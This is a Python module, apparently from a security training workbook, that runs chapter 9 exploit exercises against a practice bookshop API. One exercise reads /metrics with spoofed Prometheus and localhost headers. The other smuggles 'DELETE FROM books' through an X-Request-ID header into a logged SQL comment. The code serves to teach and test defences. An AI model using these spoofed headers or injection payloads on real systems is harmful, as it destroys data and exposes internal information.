"""What is tried where an app goes to work: the exploits of chapter 9, by the exercise whose defence they try.

    GET /metrics                          how the shop is doing, told to everybody
    X-Request-ID: */ DELETE FROM books -- what was meant for the log, and ends up in the database

Nobody attacks a business rule here. What is attacked is what stands around the app: the doors for those who run it, and
what it writes down about its callers.
"""

import re

from workbook.attacking import Loot, Outcome, Shop, Stopped, excerpt, expect, exploit, stopped_by

COUNTED = re.compile(r"^books_requests_total\{.*\} \d", re.MULTILINE)


# 9.2 Doors for those who run it ---------------------------------------------------------------------------------------


@exploit("9.2", "API8", "what the app counts, read from outside")
def read_the_counters(shop: Shop) -> Outcome:
    """Which routes there are, how many sign in and fail to, how many buy: a competitor looks each minute."""
    expect(shop.sign_in("alice").get("/api/users/me"))
    attacker = shop.client()
    answer = attacker.get("/metrics", headers={"User-Agent": "Prometheus/3.0.0", "X-Forwarded-For": "127.0.0.1"})
    if counted := COUNTED.findall(answer.text):
        example = next(line for line in answer.text.splitlines() if line.startswith("books_requests_total{"))
        return Loot(f"{len(counted)} series, such as {excerpt(example)}")
    return stopped_by(answer)


# 9.5 What is written down about callers -------------------------------------------------------------------------------


@exploit("9.5", "API8", "SQL in the name of a request")
def delete_through_the_health_check(shop: Shop) -> Outcome:
    """The header ends the comment in which it stands. What comes next is executed, the rest of the line is none."""
    attacker = shop.client()
    before = books(shop, 1)
    attacker.get("/api/health", headers={"X-Request-ID": "*/ DELETE FROM books --"})
    if lost := before - books(shop, 2):
        return Loot(f"the health check has deleted {lost} of {before} books")
    return Stopped(f"all {before} books are there: what a client says is in no statement")


def books(shop: Shop, size: int) -> int:
    """How many books somebody finds who looks at the catalogue; with another `size` of pages, no cache knows it."""
    listed = expect(shop.client().get("/api/books/by-offset", params={"total": "true", "page_size": size})).json()
    return int(listed["total"])
